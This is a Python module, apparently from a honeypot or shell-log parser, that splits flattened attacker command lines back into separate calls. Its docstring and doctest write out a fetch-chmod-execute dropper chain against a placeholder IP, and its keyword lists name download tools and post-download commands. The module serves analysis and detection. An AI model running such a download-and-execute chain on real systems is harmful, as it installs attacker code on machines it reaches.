"""Lines of a script whose breaks were lost on the way: shippers write many lines as one, with blanks between them.

cd /tmp wget http://203.0.113.5/x chmod 777 x ./x        is one call, of `cd`, with seven words too many
"""

from __future__ import annotations

from itertools import pairwise
from typing import Final

from pipeline.shell.calls import Call, Script
from pipeline.shell.options import names
from pipeline.shell.places import base, url

__all__ = ["unglued"]

_VERBS: Final = names(
    "cd wget curl tftp ftpget chmod rm mkdir sh bash perl python tar mv history killall busybox nohup"
)
_FIRST: Final = _VERBS | names("cat uname echo cp export ls lscpu nproc free w uptime id unset pkill")
_FETCH: Final = names("wget curl")
_THEN: Final = names("chmod perl sh bash tar php python rm")
_MOST: Final = 32


def unglued(script: Script) -> Script:
    """`script`, with the calls that stand inside others at its end.

    Only where a word inside a call is a fetcher and a URL follows it, or a URL is followed by what is done with files.

    Example:
        >>> glued = Call("cd", ("cd", "/tmp", "wget", "http://203.0.113.5/x", "chmod", "777", "x", "./x"))
        >>> [" ".join(call.argv) for call in unglued(Script((glued,))).calls[1:]]
        ['wget http://203.0.113.5/x', 'chmod 777 x', './x']
    """
    more: list[Call] = []
    for call in script.calls:
        if len(call.argv) > 3 and call.name in _FIRST and not call.remote and (_holds_fetch(call) or _goes_on(call)):
            more.extend(_parts(call))
    return script._replace(calls=script.calls + tuple(more[:_MOST])) if more else script


def _holds_fetch(call: Call) -> bool:
    words = call.argv
    return not _FETCH.isdisjoint(words) and any(
        word in _FETCH and any("/" in w and url(w) is not None for w in words[at + 1 : at + 6])
        for at, word in enumerate(words[2:-1], 2)
        if words[at - 1][:2] not in ("-u", "-A", "--")
    )


def _goes_on(call: Call) -> bool:
    """A fetcher whose URL is followed by what is done with the file."""
    words = call.argv
    return call.name in _FETCH and any(
        word in _THEN and "/" in before and url(before) is not None
        for before, word in pairwise(words[1:-1])
    )


def _parts(call: Call) -> list[Call]:
    parts: list[list[str]] = [[]]
    for word in call.argv:
        if parts[-1] and (word in _VERBS or word.startswith("./")) and parts[-1][-1] not in ("busybox", "nohup", "&"):
            parts.append([])
        parts[-1].append(word)
    return [Call(base(part[0]), tuple(part)) for part in parts[1:]]
